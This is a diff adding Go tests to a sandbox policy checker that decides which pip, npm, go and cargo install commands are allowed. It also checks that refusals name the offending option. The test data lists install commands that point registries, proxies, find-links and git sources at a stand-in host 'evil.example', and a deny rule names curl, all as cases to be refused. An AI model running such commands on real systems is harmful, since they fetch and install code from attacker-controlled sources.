@@ -212,6 +212,7 @@ commands:
     - run: git **
     - run: pip **
   deny: [curl, "git push", /work/bad]
+files: {write: [/work]}
 packages:
   - manager: npm
 `)
@@ -322,6 +323,52 @@ packages: [{manager: pypi, pinned: true}, {manager: npm, pinned: true}, {manager
 		"echo install curl":                                  true,
 		"uvx ruff":                                           false,
 		"bash -c true":                                       true,
+
+		// Options that name a place, a platform or a way of printing, of pip …
+		"pip install --target /work/lib x==1.2.0":                                 true,
+		"pip install --target=/work/lib x==1.2.0":                                 true,
+		"pip install -t /work/lib --no-cache-dir -q x==1.2.0":                     true,
+		"pip install --prefix /work --root /work --user --no-deps x==1.2.0":       true,
+		"pip -v --no-input install --only-binary :all: --progress-bar off x==1.0": true,
+		"pip download -d /work --platform any --python-version 3.11 x==1.0 y==2":  true,
+		"pip wheel -w /work --no-build-isolation x==1.0":                          true,
+		"python3 -m pip install --target /work x==1.0":                            true,
+		"pip install --cache-dir /work/cache --upgrade --pre x==1.0":              true,
+		"pip install --target x==1.0":                                             false,
+		"pip install --target --index-url http://evil.example/ x==1.0":            false,
+		"pip --index-url http://evil.example/ install x==1.0":                     false,
+		"pip --proxy http://evil.example/ install x==1.0":                         false,
+		"pip install --extra-index-url http://evil.example/ x==1.0":               false,
+		"pip install -i http://evil.example/ x==1.0":                              false,
+		"pip install -ihttp://evil.example/ x==1.0":                               false,
+		"pip install -f http://evil.example/ x==1.0":                              false,
+		"pip install --find-links=http://evil.example/ x==1.0":                    false,
+		"pip install --trusted-host evil.example x==1.0":                          false,
+		"pip install -c constraints.txt x==1.0":                                   false,
+		"pip install -e git+https://evil.example/x#egg=x x==1.0":                  false,
+		"pip install --index http://evil.example/ x==1.0":                         false,
+		"pip install --user=1 x==1.0":                                             false,
+		"pip install --new-option x==1.0":                                         false,
+		"pip install --config-settings=--global-option=x x==1.0":                  false,
+		"python3 -m pip --index-url http://evil.example/ install x==1.0":          false,
+		// … of npm …
+		"npm install --no-save left-pad@1.3.0":                         true,
+		"npm install --prefix /work left-pad@1.3.0":                    true,
+		"npm --prefix=/work install -g left-pad@1.3.0":                 true,
+		"npm ci --omit=dev --ignore-scripts --no-audit --no-fund":      true,
+		"npm i -D -E --loglevel error --cache /work/c left-pad@1.3.0":  true,
+		"npm install --no-save left-pad@1":                             false,
+		"npm install --registry http://evil.example/ left-pad@1.3.0":   false,
+		"npm --registry=http://evil.example/ install left-pad@1.3.0":   false,
+		"npm install --@x:registry=http://evil.example/ @x/y@1.3.0":    false,
+		"npm ci --userconfig /work/npmrc":                              false,
+		"npm install --prefix --registry http://evil.example/ x@1.3.0": false,
+		"npm install --no-save git+https://evil.example/x.git#v1.3.0":  false,
+		// … and of go and cargo.
+		"go install -v -trimpath example.com/x@v1.2.3":       true,
+		"go install -modfile /work/x.mod example.com/x@v1.2": false,
+		"go install -toolexec /work/x example.com/x@v1.2.3":  false,
+		"cargo install --git https://evil.example/x":         true, // crates is not pinned
 	} {
 		args := strings.Fields(line)
 		m := c.Start(contract.Started{Path: "/usr/bin/" + args[0], Name: "/usr/bin/" + args[0], Args: args, Fixed: true})
@@ -433,5 +480,102 @@ teardown: {keep: 24h}
 	}
 	if d := b.Wider(new(contract.Contract)); len(d) < 15 {
 		t.Errorf("wider than nothing: %v", d)
+	}
+}
+
+// TestRefusedOptionsAreNamed: whoever reads the refusal learns which argument it is about.
+func TestRefusedOptionsAreNamed(t *testing.T) {
+	c := with(t, "commands: {allow: [{run: \"**\"}]}\npackages: [{manager: pypi, pinned: true}, {manager: npm, pinned: true}, {manager: crates, pinned: true}]\n")
+	for line, want := range map[string]string{
+		"pip install --index-url=http://evil/ x==1.0": "the option --index-url ",
+		"pip install x==1.0 -r more.txt":              "the option -r ",
+		"pip install --target --pre x==1.0":           "the option --target needs a value",
+		"pip install --no-deps=no x==1.0":             "the option --no-deps takes no value",
+		"pip install requests":                        "requests names no exact version",
+		"npm install --registry http://evil/ x@1.0.0": "the option --registry ",
+		"npm ci --userconfig x":                       "the option --userconfig ",
+		"npm install x@latest":                        "x@latest names no exact version",
+		"cargo install --git http://evil/x":           "the option --git ",
+		"pip install":                                 "it names no package with its exact version",
+	} {
+		args := strings.Fields(line)
+		m := c.Start(contract.Started{Path: "/usr/bin/" + args[0], Name: "/usr/bin/" + args[0], Args: args, Fixed: true})
+		if m.Allowed || !strings.Contains(m.Why, want) {
+			t.Errorf("%s: %t, %q, want %q", line, m.Allowed, m.Why, want)
+		}
+	}
+}
+
+// TestPatternsThatCanNeverRunAreErrors: such a contract would be approved, and its run
+// violated at once.
+func TestPatternsThatCanNeverRunAreErrors(t *testing.T) {
+	const pinned = "\npackages: [{manager: pypi, pinned: true}, {manager: npm, pinned: true}, {manager: go, pinned: true}]\n"
+	for _, tt := range []struct{ allow, more, want string }{
+		{"pip install --index-url * *==*", pinned, "the option --index-url"},
+		{"pip install -r requirements.txt", pinned, "the option -r"},
+		{"pip --proxy * install **", pinned, "the option --proxy"},
+		{"python3 -m pip install --extra-index-url=* *", pinned, "the option --extra-index-url"},
+		{"npm install --registry * **", pinned, "the option --registry"},
+		{"npm install left-pad@latest", pinned, "left-pad@latest names no exact version"},
+		{"pip install requests", pinned, "requests names no exact version"},
+		{"pip install requests==1.0", "", "packages does not name pypi"},
+		{"npm install left-pad@*", "", "packages does not name npm"},
+		{"/home/user/tool **", "", "the run does not see /home/user/tool"},
+		{"/opt/tool", "\nfiles: {deny: [/opt]}", "the run does not see /opt/tool"},
+
+		{"pip install --target /work *==*", pinned, ""},
+		{"pip install **", pinned, ""},
+		{"pip **", "", ""},
+		{"pip * * requests==*", pinned, ""},
+		{"pip install requests*", pinned, ""},
+		{"pip install --t* **", pinned, ""},
+		{"pip download --no-deps *==*", pinned, ""},
+		{"python3 -m pip install **", pinned, ""},
+		{"npm ci", pinned, ""},
+		{"npm * left-pad@*", pinned, ""},
+		{"npm install --prefix=* *@*.*.*", pinned, ""},
+		{"go install *@*", pinned, ""},
+		{"pip install ./x.whl", "", ""},
+		{"pip install requests", "\npackages: [{manager: pypi}]", ""},
+		{"/opt/tool/*", "", ""},
+		{"/work/in/tool", "\nfiles: {inputs: [{path: /work/in/tool}]}", ""},
+	} {
+		_, err := contract.Parse([]byte("version: 1\nname: x\ncommands: {allow: [{run: '" + tt.allow + "'}]}" + tt.more))
+		switch {
+		case tt.want == "" && err != nil:
+			t.Errorf("%s: %v", tt.allow, err)
+		case tt.want != "" && (err == nil || !strings.Contains(err.Error(), "can never run") || !strings.Contains(err.Error(), tt.want)):
+			t.Errorf("%s: %v, want %q", tt.allow, err, tt.want)
+		}
+	}
+}
+
+// TestWarningsAreAboutWhatReadersMiss: an interpreter with its script is what it seems to
+// be. A contract of which nothing is unexpected has no warning.
+func TestWarningsAreAboutWhatReadersMiss(t *testing.T) {
+	const files = "\nfiles: {write: [/work], inputs: [{path: /work/in/*}, {path: /work/report.py}]}"
+	for run, want := range map[string]string{
+		"python3 report.py":          "",
+		"python3 report.py **":       "",
+		"python3 -I /work/in/job.py": "",
+		"bash /opt/run.sh *":         "",
+		"node --version":             "",
+		"ls **":                      "",
+		"git status":                 "",
+		"python3 **":                 "any code, also code on the command line",
+		"python3 * x":                "any code, also code on the command line",
+		"bash **":                    "any code, also code on the command line",
+		"python3 made.py":            "the run can write /work/made.py",
+		"python3 -I /work/x/y.py *":  "the run can write /work/x/y.py",
+		"git **":                     "runs other code or programs",
+		"awk *":                      "runs other code or programs",
+		"find . **":                  "runs other code or programs",
+		"**":                         "allows any program",
+	} {
+		c := parse(t, "version: 1\nname: x\ncommands: {allow: [{run: '"+run+"'}]}"+files)
+		got := strings.Join(c.Warnings(), "\n")
+		if want == "" && got != "" || !strings.Contains(got, want) {
+			t.Errorf("%s: %q, want %q", run, got, want)
+		}
 	}
 }
